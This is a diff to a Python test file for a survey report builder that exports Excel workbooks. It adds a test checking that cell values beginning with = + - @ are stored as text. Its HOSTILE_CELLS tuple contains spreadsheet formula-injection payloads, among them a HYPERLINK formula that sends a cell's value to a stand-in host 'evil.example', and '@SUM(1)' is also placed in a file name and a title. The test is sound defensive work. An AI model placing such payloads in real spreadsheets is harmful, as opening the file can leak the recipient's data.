@@ -7,22 +7,32 @@ from __future__ import annotations
 
 import json
 import math
+import zipfile
+from dataclasses import replace
+from itertools import cycle
+from pathlib import Path
 
 import pytest
 from openpyxl import load_workbook
 
+from analysis.drivers import analyse_drivers
 from analysis.report import build_reports
+from analysis.validation import validate
 
 PERSONAL = "Mail me op a.b@example.nl of bel +31 6 1234 5678; rekening DE89 3704 0044 0532 0130 00. Sanne hielp."
 
 
 @pytest.fixture(scope="module")
-def workbook(example, inst, tmp_path_factory):
+def reports(example, inst, tmp_path_factory):
     data = example.data.copy()
     rows = data.why.notna() & data.nps.notna() & (data.organisation == "Telecom")
     data.loc[rows, "why"] = PERSONAL
-    reports = build_reports(data, inst, example.quality, lang="en", out_dir=tmp_path_factory.mktemp("xlsx"),
-                            analysis=example.analysis, validation=example.validation, pdf=False)
+    return build_reports(data, inst, example.quality, lang="en", out_dir=tmp_path_factory.mktemp("xlsx"),
+                         analysis=example.analysis, validation=example.validation, pdf=False)
+
+
+@pytest.fixture(scope="module")
+def workbook(reports):
     return load_workbook(reports.workbook)
 
 
@@ -100,7 +110,7 @@ def test_kpi_sheets_equal_to_dict(workbook, example):
             assert same([r[header], r[f"{header} (low)"], r[f"{header} (high)"]],
                         [kpis[k]["estimate"], *kpis[k]["ci"]])
     channel_rows = records(workbook["KPIs by channel"])
-    assert channel_rows and all(r["Respondents"] >= 30 for r in channel_rows)
+    assert channel_rows and all(r["Usable respondents"] >= 30 for r in channel_rows)
     for r in channel_rows:
         if r["Channel"] == "All channels":
             assert same([r["NPS"]], [doc[group_key(r["Group"])]["kpis"]["nps"]["estimate"]])
@@ -141,3 +151,36 @@ def test_open_answers_in_the_workbook_are_masked(workbook):
     every_cell = " ".join(str(c.value) for ws in workbook.worksheets for row in ws.iter_rows() for c in row)
     for raw in ("a.b@example.nl", "1234 5678", "DE89", "Sanne"):
         assert raw not in every_cell
+
+
+def test_the_sheet_of_each_table_is_known_by_the_table_name(reports, workbook):
+    assert reports.sheets["about"] == workbook.sheetnames[0] == "About this workbook"
+    assert reports.sheets["overview"] == "Overview" and reports.sheets["priorities"] == "Priorities"
+    assert set(reports.sheets.values()) == set(workbook.sheetnames)
+
+
+HOSTILE_CELLS = ("=1+2", '=HYPERLINK("http://evil.example/?x="&A1,"x")', "@SUM(1)", "+1", "-1+1")
+
+
+def test_text_from_the_data_never_becomes_a_formula(example, inst, tmp_path):
+    """Group names, the title, the file name and open answers starting with = + - @ are stored as text."""
+    data = example.data[example.data.organisation.isin(["Energie", "Telecom"])].copy()
+    data["organisation"] = data.organisation.map({"Energie": HOSTILE_CELLS[0], "Telecom": HOSTILE_CELLS[1]})
+    answered = data.why.notna() & data.nps.notna()
+    data.loc[answered, "why"] = [v for v, _ in zip(cycle(HOSTILE_CELLS), range(answered.sum()))]
+    analysis = analyse_drivers(data, inst, by="organisation", bootstrap=20, seed=1, sem=False)
+    validation = validate(data, inst, by="organisation", invariance=False)
+    quality = replace(example.quality, file=Path(tmp_path / "@SUM(1).sav"))
+    reports = build_reports(data, inst, quality, lang="en", out_dir=tmp_path / "out", title=HOSTILE_CELLS[2],
+                            analysis=analysis, validation=validation, pdf=False)
+    wb = load_workbook(reports.workbook)
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    values = {c.value for c in cells}
+    for hostile in HOSTILE_CELLS:
+        assert hostile in values                              # shown as typed
+    assert "@SUM(1).sav" in values
+    assert all(c.quotePrefix for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@")
+    with zipfile.ZipFile(reports.workbook) as archive:           # no formula element in any sheet
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
+        assert sheets and not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)
